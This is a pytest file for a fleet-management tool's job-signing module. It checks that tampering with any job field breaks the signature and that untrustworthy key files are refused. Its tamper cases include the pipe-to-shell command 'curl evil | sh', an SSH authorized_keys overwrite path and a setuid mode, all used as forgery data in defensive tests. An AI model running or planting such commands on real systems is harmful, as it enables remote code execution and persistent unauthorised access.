"""Signed jobs, pure: any change to any field of a queued job breaks its signature, the signature
is the same for the record the worker reads back, and a key file that cannot be trusted is
refused with a sentence saying why."""

from __future__ import annotations

import os
import secrets
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fleetdeck_common.jobs.signing import JobKey, JobKeyError, as_queued, load_job_key, sign, verify
from fleetdeck_common.messages import FileCopy, Job, dump
from fleetdeck_gateway.settings import GatewaySettings
from fleetdeck_worker.settings import WorkerSettings

KEY = JobKey(b"k" * 32)


def _job(**changes: Any) -> Job:
    fields: dict[str, Any] = {
        "job": "0123456789abcdef",
        "targets": "127.0.0.[2-3]",
        "command": "uptime",
        "hosts": 2,
        "by": "alice",
        "ts": 1765000000.123,
        "state": "queued",
        "timeout": 30.0,
        "queued_until": 1765000060.123,
    }
    fields.update(changes)
    return Job(**fields)


# A changed value for every field of a job, as a forger would write it.
TAMPERED: dict[str, Any] = {
    "job": "fedcba9876543210",
    "targets": "127.0.0.0/8",
    "command": "curl evil | sh",
    "hosts": 3,
    "by": "mallory",
    "ts": 1765000001.0,
    "state": "running",
    "timeout": 31.0,
    "summary": {"ok": 1},
    "finished": 1765000002.0,
    "cancelled_by": "bob",
    "error": "x",
    "resolved_targets": "127.0.0.9",
    "queued_until": 1799999999.0,
    "scope": "127.0.0.2",
    "file_copy": FileCopy(file="f" * 32, dest="/root/.ssh/authorized_keys", mode="0600"),
    "batch": "100%",
    "max_failures": "100%",
    "wave": 2,
    "waves": 3,
}


def test_every_field_is_covered_by_the_tamper_cases() -> None:
    assert set(TAMPERED) == set(Job.model_fields) - {"type", "ref"}


@pytest.mark.parametrize("field", sorted(TAMPERED))
def test_changing_any_field_breaks_the_signature(field: str) -> None:
    job = _job()
    signature = sign(KEY, job)
    assert verify(KEY, job, signature)
    assert not verify(KEY, job.model_copy(update={field: TAMPERED[field]}), signature)


@settings(max_examples=100, deadline=None)
@given(
    command=st.text(max_size=200),
    targets=st.text(min_size=1, max_size=50),
    ts=st.floats(0, 4e9, allow_nan=False),
    other=st.text(max_size=200),
)
def test_a_signature_holds_for_its_job_only(command: str, targets: str, ts: float, other: str) -> None:
    job = _job(command=command, targets=targets, ts=ts)
    signature = sign(KEY, job)
    read_back = Job.model_validate_json(dump(job))  # what the worker loads from the record
    assert verify(KEY, read_back, signature)
    assert verify(KEY, as_queued(read_back.model_copy(update={"state": "done", "error": "e"})), signature)
    if other != command:
        assert not verify(KEY, job.model_copy(update={"command": other}), signature)
    assert not verify(JobKey(b"j" * 32), job, signature)


@pytest.mark.parametrize("signature", [None, "", "0" * 64, "ü" * 64, "not hex"])
def test_a_missing_or_malformed_signature_is_refused(signature: str | None) -> None:
    assert not verify(KEY, _job(), signature)


def test_the_key_never_shows_in_its_repr() -> None:
    secret = secrets.token_hex(16).encode()
    assert secret.decode() not in repr(JobKey(secret))


def _key_file(tmp_path: Path, content: bytes, mode: int = 0o600) -> Path:
    path = tmp_path / "job.key"
    path.write_bytes(content)
    path.chmod(mode)
    return path


def test_a_good_key_file_loads(tmp_path: Path) -> None:
    secret = os.urandom(32)
    assert load_job_key(_key_file(tmp_path, secret)).secret == secret


@pytest.mark.parametrize(
    ("content", "mode", "sentence"),
    [
        (None, 0o600, "does not exist"),
        (b"", 0o600, "is empty"),
        (b"short", 0o600, "holds 5 bytes; a job key is at least 32 random bytes"),
        (b"k" * 32, 0o644, "is readable by group or others (mode 0644)"),
        (b"k" * 32, 0o640, "is readable by group or others (mode 0640)"),
    ],
)
def test_a_key_file_that_cannot_be_trusted_is_refused(
    tmp_path: Path, content: bytes | None, mode: int, sentence: str
) -> None:
    path = tmp_path / "job.key" if content is None else _key_file(tmp_path, content, mode)
    with pytest.raises(JobKeyError, match=sentence.replace("(", r"\(").replace(")", r"\)")) as caught:
        load_job_key(path)
    assert str(path) in str(caught.value)


def test_a_directory_is_not_a_key_file(tmp_path: Path) -> None:
    with pytest.raises(JobKeyError, match="is not a regular file"):
        load_job_key(tmp_path)


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads any file")
def test_an_unreadable_key_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(JobKeyError, match="cannot be read"):
        load_job_key(_key_file(tmp_path, b"k" * 32, 0o000))


@pytest.mark.parametrize("model", [GatewaySettings, WorkerSettings])
def test_both_services_check_the_key_file_in_their_settings(
    model: type[GatewaySettings | WorkerSettings], tmp_path: Path
) -> None:
    assert model(redis_url="memory://").job_key() is None
    good = _key_file(tmp_path, b"k" * 32)
    key = model(redis_url="memory://", job_key_file=good).job_key()
    assert key is not None and key.secret == b"k" * 32
    with pytest.raises(ValueError, match="is empty"):
        model(redis_url="memory://", job_key_file=_key_file(tmp_path, b""))


def test_a_copy_jobs_destination_and_mode_are_signed() -> None:
    job = _job(command="", file_copy=FileCopy(file="a" * 32, dest="/etc/motd"))
    signature = sign(KEY, job)
    assert verify(KEY, job, signature)
    for changed in ({"dest": "/root/.ssh/authorized_keys"}, {"mode": "4755"}, {"file": "b" * 32}):
        assert job.file_copy is not None
        forged = job.model_copy(update={"file_copy": job.file_copy.model_copy(update=changed)})
        assert not verify(KEY, forged, signature)
